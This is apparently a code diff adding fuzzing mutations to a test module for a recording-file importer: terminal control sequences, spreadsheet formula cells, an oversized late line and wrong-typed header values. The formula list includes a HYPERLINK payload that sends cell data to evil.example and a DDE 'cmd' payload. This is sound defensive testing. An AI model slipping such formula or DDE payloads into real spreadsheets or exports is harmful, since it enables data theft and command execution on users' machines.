@@ -202,7 +202,68 @@ export const MUTATIONS: Record<string, Mutation> = {
     const v = r.pick(['32767', '-32768', '1000', '2.5']);
     return lines.map((l, i) => (i > h && i % 7 < 4 ? mapCells(l, (x, c) => (c === 1 ? v : x)) : l));
   }),
+  // Hostile inputs (issue 13): text meant for a terminal or a spreadsheet rather than a recording, a late line
+  // of megabytes, and header values of the wrong type.
+  controlChars: text((lines, r) => {
+    const h = Math.max(0, headerIndex(lines));
+    return lines.map((l, i) => (i === h || (i > h && r.next() < 0.05) ? mapCells(l, (x) => (r.next() < 0.5 ? `${x}${r.pick(CONTROL_TEXT)}` : x)) : l));
+  }),
+  formulaCells: text((lines, r) => {
+    const h = Math.max(0, headerIndex(lines));
+    return lines.map((l, i) => (i === h || (i > h && r.next() < 0.05) ? mapCells(l, (x, c) => (c > 0 && r.next() < 0.6 ? `${r.pick(FORMULAS)}${i === h ? ` ${x}` : ''}` : x)) : l));
+  }),
+  longLateLine: (b, r) => {
+    // After the head (the importer detects the format on its first 400 lines), so the streaming scanner meets
+    // the line: the seeds are a few KB, so their last line is repeated until the head is passed. The line is
+    // up to 2 MiB long, either side of the scanner's 1 MiB limit.
+    const ends: number[] = [];
+    for (let i = 0; i < b.length; i++) if (b[i] === 10) ends.push(i + 1);
+    if (ends.length < 2) return b;
+    const last = b.subarray(ends[ends.length - 2], ends[ends.length - 1]);
+    const repeats = Math.max(0, PAST_HEAD_LINES - ends.length);
+    const at = repeats > 0 ? ends[ends.length - 1] : ends[r.int(PAST_HEAD_LINES - 1, ends.length - 1)];
+    const long = new Uint8Array(r.int(64 * 1024, 2 * 1024 * 1024)).fill(r.pick([0x37, 0x78, 0x2c, 0x22, 0x20, 0x09]));
+    const out = new Uint8Array(b.length + repeats * last.length + long.length + 1);
+    out.set(b.subarray(0, at), 0);
+    for (let k = 0; k < repeats; k++) out.set(last, at + k * last.length);
+    const longAt = at + repeats * last.length;
+    out.set(long, longAt);
+    out[longAt + long.length] = 10;
+    out.set(b.subarray(at), longAt + long.length + 1);
+    return out;
+  },
+  headerFieldTypes: text((lines, r) => {
+    const json = lines.findIndex((l, i) => i < 20 && /^#\s*\{/.test(l));
+    if (json >= 0) {
+      try {
+        const header = JSON.parse(lines[json].replace(/^#\s*/, '')) as unknown;
+        const out = lines.slice();
+        out[json] = `# ${JSON.stringify(wrongTypes(header, r))}`;
+        return out;
+      } catch {
+        return lines;
+      }
+    }
+    // Other headers: the values of `key = value` or `key,value` lines among the first ones.
+    return lines.map((l, i) => (i < 12 && /[=:,;\t]\s*-?[\d.]+/.test(l) && r.next() < 0.5 ? l.replace(/-?[\d.]+(?=\s*$|[,;\t])/, () => String(r.pick(WRONG_VALUES.map((v) => JSON.stringify(v) ?? 'undefined')))) : l));
+  }),
 };
+
+/** Past the 400 lines the importer reads to detect the format (core/import/head.ts). */
+const PAST_HEAD_LINES = 420;
+const CONTROL_TEXT = ['\u001b[31m', '\u001b]0;owned\u0007', '\u0000', '\u0007', '\u009b2J', '\r', '\u001b[2J\u001b[H', '\u202e', '\u0008\u0008'];
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '@SUM(1+1)', '-2+3', '+cmd|\' /C calc\'!A0', '\t=1+1', '=1,2', '"=2"'];
+const WRONG_VALUES: unknown[] = [5000, -1, 0, 1e308, '16', 'abc', '', null, true, [], [1, 2], {}, { a: 1 }, ['x', 3], 'nan'];
+
+/** A copy of a JSON header with some of its fields (at any depth) given values of the wrong type or range. */
+function wrongTypes(v: unknown, r: Prng, depth = 0): unknown {
+  if (Array.isArray(v)) return r.next() < 0.15 ? r.pick(WRONG_VALUES) : v.map((x) => wrongTypes(x, r, depth + 1));
+  if (typeof v === 'object' && v !== null) {
+    if (depth > 0 && r.next() < 0.05) return r.pick(WRONG_VALUES);
+    return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, r.next() < 0.2 ? r.pick(WRONG_VALUES) : wrongTypes(x, r, depth + 1)]));
+  }
+  return r.next() < 0.2 ? r.pick(WRONG_VALUES) : v;
+}
 
 export const MUTATION_NAMES = Object.keys(MUTATIONS);
 
